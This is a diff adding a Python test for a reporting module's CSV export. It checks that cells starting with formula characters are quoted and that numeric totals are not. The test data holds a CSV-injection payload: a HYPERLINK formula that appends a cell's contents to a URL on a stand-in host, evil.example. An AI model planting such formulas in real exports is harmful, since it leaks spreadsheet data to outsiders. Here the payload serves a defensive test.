@@ -381,3 +381,32 @@ def test_reports_work_before_anything_was_pulled_or_scored(marketing_db: Databas
     assert report.members == 0 and report.activity_by_week == {} and report.score_histogram == []
     assert report.grades == {NO_GRADE: 0, NOT_SCORED: 0}
     assert len(charts_of(render_html(report))) == 3  # no activity, no scores: their text instead
+
+
+def test_a_reports_csv_quotes_text_that_would_run_as_a_formula_but_not_its_figures(
+    marketing_db: Database,
+) -> None:
+    name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    with marketing_db.transaction() as session:
+        group = create_group(session, name, now=NOW)
+        run = SyncRun(
+            group_id=group.id,
+            trigger="manual",
+            status="failed",
+            list_key="K",
+            edition="e",
+            requested_at=NOW - timedelta(hours=1),
+            heartbeat_at=NOW - timedelta(hours=1),
+            error="@SUM(1+1)",
+        )
+        session.add(run)
+        session.flush()
+        run_id = run.id
+    with marketing_db.session() as session:
+        report = sync_report(session, now=NOW, weeks=WEEKS)
+
+    rows = csv_of(report)
+
+    assert ("failures", str(run_id), "'" + name, "failed: @SUM(1+1)") in rows
+    totals = {label: value for section, label, _, value in rows if section == "totals"}
+    assert (totals["runs"], totals["failed"], totals["added"]) == ("1", "1", "0")
